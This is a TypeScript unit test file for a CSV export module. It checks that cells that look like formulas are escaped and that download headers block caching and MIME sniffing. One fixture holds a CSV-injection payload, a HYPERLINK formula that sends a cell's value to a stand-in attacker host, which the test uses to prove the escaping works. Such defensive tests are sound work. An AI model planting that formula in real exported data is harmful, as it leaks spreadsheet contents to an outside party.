import { describe, expect, it } from "vitest";
import { csvResponse, csvStream } from "./index.ts";

async function text(stream: AsyncIterable<unknown>): Promise<string> {
  let out = "";
  for await (const chunk of stream) out += String(chunk);
  return out;
}

const columns = [
  { key: "name", header: "name" },
  { key: "amount", header: "amount" },
] as const;

describe("the CSV writer", () => {
  it("quotes text cells that a spreadsheet would run as a formula; numbers stay numbers", async () => {
    const rows = [
      { name: '=HYPERLINK("http://evil.example/?x="&A1,"x")', amount: -5 },
      { name: "+1+1", amount: 3 },
      { name: "-2+3", amount: "-7" },
      { name: "@SUM(A1)", amount: 0 },
      { name: "\tcmd", amount: null },
      { name: "\rcmd", amount: 1.5 },
      { name: "plain, with comma", amount: 2 },
    ];
    const lines = (await text(csvStream(rows, columns))).split("\n");
    expect(lines[0]).toBe("name,amount");
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",-5`);
    expect(lines[2]).toBe("'+1+1,3");
    expect(lines[3]).toBe("'-2+3,'-7");
    expect(lines[4]).toBe("'@SUM(A1),0");
    expect(lines[5]).toBe("'\tcmd,");
    expect(lines[6]).toBe(`"'\rcmd",1.5`);
    expect(lines[7]).toBe('"plain, with comma",2');
  });

  it("answers a download that is neither cached nor sniffed", async () => {
    const response = csvResponse(csvStream([{ name: "a", amount: 1 }], columns), "usage 2026.csv");
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("Content-Disposition")).toBe('attachment; filename="usage_2026.csv"');
    expect(response.headers.get("Cache-Control")).toBe("no-store");
    expect(response.headers.get("X-Content-Type-Options")).toBe("nosniff");
    expect(await response.text()).toBe("name,amount\na,1\n");
  });
});
